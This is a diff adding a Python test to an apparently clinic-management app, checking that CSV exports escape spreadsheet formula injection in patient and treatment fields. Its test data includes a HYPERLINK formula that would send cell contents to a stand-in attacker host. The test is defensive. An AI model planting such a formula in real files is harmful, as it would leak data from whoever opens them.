@@ -187,3 +187,29 @@ def test_moments_are_the_practices_clock(client: TestClient, clinic: Clinic,
     assert shown[local] == "2026-07-01 09:00"
     # the seed's Ann at 08:00 UTC on 14 March is 04:00 in New York (daylight time)
     assert f"{DAY} 04:00" in shown.values()
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(
+        client: TestClient, clinic: Clinic, tmp_path: Path) -> None:
+    """A name typed as a formula must not run when the practice opens the file; numbers
+    (a refund's negative amount) and ordinary text stay as they were."""
+    pc = clinic.pc
+    hostile, visit = new_id(), new_id()
+    pc.push(
+        pc.mutation("patient", hostile, {
+            "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "last_name": "@SUM(1+1)", "mobile": "+961 3 123 456", "gender": "male"}),
+        pc.mutation("visit", visit, {"patient_id": hostile, "visit_date": DAY,
+                                     "procedure": "-Extraction", "charge": "-20.00"}),
+    )
+    _make(client, clinic, tmp_path / "d.zip")
+    assert _7z(tmp_path / "d.zip", PASSWORD, tmp_path / "o").returncode == 0
+    (row,) = [r for r in _csv(tmp_path / "o" / "patients.csv") if r["patient_id"] == hostile]
+    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (row["last_name"], row["mobile"]) == ("'@SUM(1+1)", "'+961 3 123 456")
+    (treatment,) = [r for r in _csv(tmp_path / "o" / "treatments.csv")
+                    if r["treatment_id"] == visit]
+    assert (treatment["procedures"], treatment["charge"]) == ("'-Extraction", "-20.00")
+    assert treatment["patient_name"] == "'@SUM(1+1), =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    readme = (tmp_path / "o" / "README.txt").read_text(encoding="utf-8-sig")
+    assert "never runs it as a formula" in readme
